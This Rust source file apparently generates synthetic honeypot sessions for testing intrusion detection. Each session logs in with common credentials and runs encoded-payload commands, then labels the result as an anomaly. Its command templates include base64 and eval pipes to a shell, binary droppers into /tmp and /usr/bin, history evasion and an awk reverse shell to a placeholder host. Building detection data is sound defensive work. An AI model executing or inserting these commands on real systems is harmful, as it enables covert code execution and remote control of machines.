//! Commands that consist mostly of an encoded program.

use crate::generate::kind::Kind;

use super::{
    campaign::tries,
    credentials::common,
    fill::fill,
    ground::{Ground, Visit, common_client, host, rare_client, someone},
    intruders::type_all,
    truth::Anomaly,
};

const FORMS: &[(&str, &str)] = &[
    ("base64 to a shell", "echo «script» | base64 -d | «sh|bash|/bin/sh»"),
    ("base64 to a shell", "bash -c \"$(base64 -d <<< «script»)\""),
    ("base64 to a shell", "eval `echo «script» | openssl base64 -d -A`"),
    ("base64 to a shell", "bash -c {echo,«script»}|{base64,-d}|{bash,-i}"),
    ("python", "python3 -c \"import base64;exec(base64.b64decode('«python»'))\""),
    ("python", "python -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode(\"«noise»\")))'"),
    ("perl", "perl -MMIME::Base64 -e 'eval decode_base64(\"«script»\")'"),
    ("escapes", "echo -ne '«escapes»' > /tmp/.«name»; sh /tmp/.«name»"),
    ("escapes", "printf '«octal»' | sh"),
    ("binary", "echo -ne '\\x7f\\x45\\x4c\\x46«elf»' >> /dev/shm/.«name»"),
    ("binary", "printf '«noise»' | base64 -d | gunzip > /usr/bin/«name» && chmod 755 /usr/bin/«name»"),
    (
        "binary",
        "cat > /tmp/«name».b64 <<EOF\n«noise»\nEOF\nbase64 -d /tmp/«name».b64 > /tmp/«name»; chmod +x /tmp/«name»; /tmp/«name»",
    ),
    ("php", "php -r \"eval(gzinflate(base64_decode('«noise»')));\""),
    ("variables", "a=«noise»;b=$(echo $a|rev|base64 -d 2>/dev/null);sh -c \"$b\""),
    ("xxd", "echo «key»«key»«key»«key» | xxd -r -p | «sh|bash»"),
    (
        "awk",
        "awk 'BEGIN{s=\"/inet/tcp/0/«host»/«port»\";while(1){do{printf \"«hex»\" |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!=\"exit\")}}'",
    ),
];

const BEFORE: &[&str] = &["uname -a", "cd /tmp", "id", "unset HISTFILE", "nproc"];

pub fn plant(ground: &mut Ground<'_>) {
    let mut random = ground.stream();
    let (what, form) = *random.pick(FORMS);
    let client = if random.chance(0.8) { common_client(&mut random) } else { rare_client(&mut random) };
    let at = ground.moment(&mut random);
    let sensor = random.below(ground.sensors.len());
    let mut who = someone(ground.stream(), ground.address(), client, host(&mut random));
    let mut commands: Vec<String> = (0..random.below(3)).map(|_| (*random.pick(BEFORE)).to_owned()).collect();
    commands.push(fill(form, &mut random, &who.host));
    let typed = random.chance(0.15);
    let visit = Visit { at, sensor, kind: if typed { Kind::Human } else { Kind::Shell }, seconds: None };
    let session = ground.visit(&mut who, &visit, |script| {
        let credentials = vec![common(&mut random)];
        tries(script, credentials, true);
        if typed {
            type_all(script, commands)
        } else {
            commands.into_iter().for_each(|command| script.execute(command.into(), None))
        }
    });
    ground.truth.anomalies.extend(session.map(|(sensor, session)| Anomaly {
        sensor,
        session,
        class: "payload".into(),
        what: what.into(),
    }));
}
